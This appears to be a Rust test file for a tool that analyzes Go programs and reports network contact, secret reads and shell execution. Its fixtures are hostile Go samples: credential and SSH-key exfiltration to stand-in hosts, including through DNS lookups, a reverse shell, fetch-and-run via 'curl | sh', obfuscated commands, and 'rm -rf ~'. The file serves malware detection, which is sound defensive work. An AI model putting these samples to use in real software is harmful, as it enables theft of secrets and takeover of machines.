//! What is told of programs in Go.

use super::language::Language::Go;
use super::tests::{tells, told};

#[test]
fn what_is_fetched_is_followed_to_where_it_runs() {
    tells(
        Go,
        "package telemetry\n\nimport (\n\t\"bytes\"\n\t\"encoding/json\"\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n\
         func init() {\n\tgo func() {\n\t\th, _ := os.Hostname()\n\
         \t\tb, _ := json.Marshal(map[string]any{\"h\": h, \"e\": os.Environ()})\n\
         \t\tr, err := http.Post(\"https://a.invalid/v1\", \"application/json\", bytes.NewReader(b))\n\
         \t\tif err != nil {\n\t\t\treturn\n\t\t}\n\t\tdefer r.Body.Close()\n\
         \t\tcmd, _ := io.ReadAll(r.Body)\n\t\tif len(cmd) > 0 {\n\
         \t\t\t_ = exec.Command(\"sh\", \"-c\", string(cmd)).Start()\n\t\t}\n\t}()\n}\n",
        &[
            "contact https://a.invalid/v1 with  [Environment]",
            "run sh -c … [fetched]",
            "sh <- … [fetched]",
        ],
    );
    tells(
        Go,
        "package main\n\nimport (\n\t\"context\"\n\t\"fmt\"\n\t\"os/exec\"\n)\n\nconst host = \"https://a.invalid\"\n\n\
         func line(path string) string {\n\treturn fmt.Sprintf(\"curl -s %s/%v | sh\", host, path)\n}\n\n\
         func main() {\n\texec.CommandContext(context.Background(), \"bash\", \"-c\", line(\"x\")).Run()\n}\n",
        &[
            "bash <- curl -s https://a.invalid/x | sh",
            "sh <- … [fetched]",
        ],
    );
}

#[test]
fn keys_are_followed_through_files_methods_and_walks() {
    tells(
        Go,
        "package main\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"path/filepath\"\n\t\"strings\"\n)\n\n\
         type Client struct {\n\tto   string\n\tbody []string\n}\n\n\
         func (c *Client) send() error {\n\treq, err := http.NewRequest(\"POST\", c.to, strings.NewReader(strings.Join(c.body, \"\\n\")))\n\
         \tif err != nil {\n\t\treturn err\n\t}\n\tclient := &http.Client{}\n\t_, err = client.Do(req)\n\treturn err\n}\n\n\
         func read(names ...string) (all []string, err error) {\n\thome, _ := os.UserHomeDir()\n\
         \tfor _, name := range []string{\"id_rsa\", \"notes\"} {\n\
         \t\tdata, err := os.ReadFile(filepath.Join(home, \".ssh\", name))\n\
         \t\tif err == nil {\n\t\t\tall = append(all, string(data))\n\t\t}\n\t}\n\treturn all, nil\n}\n\n\
         func main() {\n\tkeys, _ := read()\n\tc := &Client{to: \"https://a.invalid\", body: keys}\n\tc.send()\n}\n",
        &["contact https://a.invalid with  [Keys]"],
    );
    tells(
        Go,
        "package main\n\nimport (\n\t\"io\"\n\t\"net\"\n\t\"os\"\n\t\"path/filepath\"\n)\n\n\
         func main() {\n\tconn, _ := net.Dial(\"tcp\", \"203.0.113.5:9\")\n\tdefer conn.Close()\n\
         \tfilepath.Walk(os.Getenv(\"HOME\")+\"/.aws\", func(path string, info os.FileInfo, err error) error {\n\
         \t\tf, err := os.Open(path)\n\t\tio.Copy(conn, f)\n\t\treturn err\n\t})\n}\n",
        &["contact 203.0.113.5:9 with  [SignIns]"],
    );
}

#[test]
fn a_shell_that_is_joined_to_a_connection_is_seen() {
    tells(
        Go,
        "package main\n\nimport (\n\t\"net\"\n\t\"os/exec\"\n)\n\nfunc main() {\n\
         \tc, _ := net.Dial(\"tcp\", \"203.0.113.5:9\")\n\tcmd := exec.Command(\"/bin/sh\")\n\
         \tcmd.Stdin = c\n\tcmd.Stdout, cmd.Stderr = c, c\n\tcmd.Run()\n}\n",
        &["attach"],
    );
}

#[test]
fn texts_are_put_together_as_the_program_would() {
    tells(
        Go,
        "package main\n\nimport (\n\tb64 \"encoding/base64\"\n\t\"os/exec\"\n\t\"strings\"\n)\n\n\
         var parts = []string{\"cur\", \"l htt\", \"ps://a.invalid\"}\n\n\
         func main() {\n\tcode, _ := b64.StdEncoding.DecodeString(\"aWQgLXU=\")\n\
         \texec.Command(\"sh\", \"-c\", string(code)).Run()\n\
         \texec.Command(\"sh\", \"-c\", strings.Join(parts, \"\")).Run()\n\
         \tname := `rm`\n\tname += \" -rf \" + \"\\x7e\"\n\texec.Command(\"sh\", []string{\"-c\", name}...).Run()\n}\n",
        &[
            "sh <- id -u",
            "contact https://a.invalid with ",
            "sh <- rm -rf ~",
        ],
    );
}

#[test]
fn nothing_is_told_of_programs_that_only_serve_and_fetch() {
    let text = "package main\n\nimport (\n\t\"encoding/json\"\n\t\"log\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n\
                // exec.Command(\"sh\", \"-c\", \"curl https://b.invalid | sh\")\n\
                type Note struct {\n\tText string `json:\"curl https://b.invalid | sh\"`\n}\n\n\
                func get(path string) (*Note, error) {\n\treq, _ := http.NewRequest(\"GET\", \"https://a.invalid/\"+path, nil)\n\
                \treq.Header.Set(\"Authorization\", \"Bearer \"+os.Getenv(\"DESK_TOKEN\"))\n\
                \tr, err := http.DefaultClient.Do(req)\n\tif err != nil {\n\t\treturn nil, err\n\t}\n\
                \tvar note Note\n\terr = json.NewDecoder(r.Body).Decode(&note)\n\treturn &note, err\n}\n\n\
                func main() {\n\tnote, err := get(os.Args[1])\n\tif err != nil {\n\t\tlog.Fatal(err)\n\t}\n\
                \tos.WriteFile(\"note.txt\", []byte(note.Text), 0o644)\n\texec.Command(\"git\", \"status\").Run()\n\
                \thttp.HandleFunc(\"/\", func(w http.ResponseWriter, r *http.Request) { w.Write([]byte(\"ok\")) })\n\
                \tlog.Fatal(http.ListenAndServe(\":8080\", nil))\n}\n";
    let told = told(Go, text);
    let is_bad = |line: &&String| line.contains("b.invalid") || line.contains('[');
    let bad: Vec<&String> = told.iter().filter(is_bad).collect();
    assert!(
        bad.iter()
            .all(|line| line.starts_with("write note.txt <- … [fetched]")),
        "{told:#?}"
    );
    assert!(told.contains(&"run git status".to_owned()), "{told:#?}");
}

#[test]
fn keys_are_followed_into_the_names_that_are_looked_up() {
    let told = told(
        Go,
        "package main\n\nimport (\n\t\"encoding/base32\"\n\t\"fmt\"\n\t\"net\"\n\t\"os\"\n\t\"path/filepath\"\n\t\"strings\"\n)\n\n\
         func account() {\n\thome, _ := os.UserHomeDir()\n\
         \tsrc := []string{os.Getenv(\"ID\") + \":\" + os.Getenv(\"AWS_SECRET_ACCESS_KEY\")}\n\
         \tfor _, f := range []string{\".aws/credentials\", \".terraform.d/credentials.tfrc.json\"} {\n\
         \t\tif b, err := os.ReadFile(filepath.Join(home, f)); err == nil {\n\t\t\tsrc = append(src, string(b))\n\t\t}\n\t}\n\
         \tenc := base32.StdEncoding.WithPadding(base32.NoPadding)\n\
         \ttext := strings.ToLower(enc.EncodeToString([]byte(strings.Join(src, \"\\n\"))))\n\
         \tfor i, n := 0, 0; i < len(text); i, n = i+58, n+1 {\n\t\tend := i + 58\n\
         \t\tnet.LookupHost(fmt.Sprintf(\"%s.%d.a.invalid\", text[i:end], n))\n\t}\n}\n\nfunc main() {\n\taccount()\n}\n",
    );
    let is_sent =
        |line: &String| line.starts_with("contact") && line.contains("a.invalid [SignIns]");
    assert!(told.iter().any(is_sent), "{told:#?}");
}
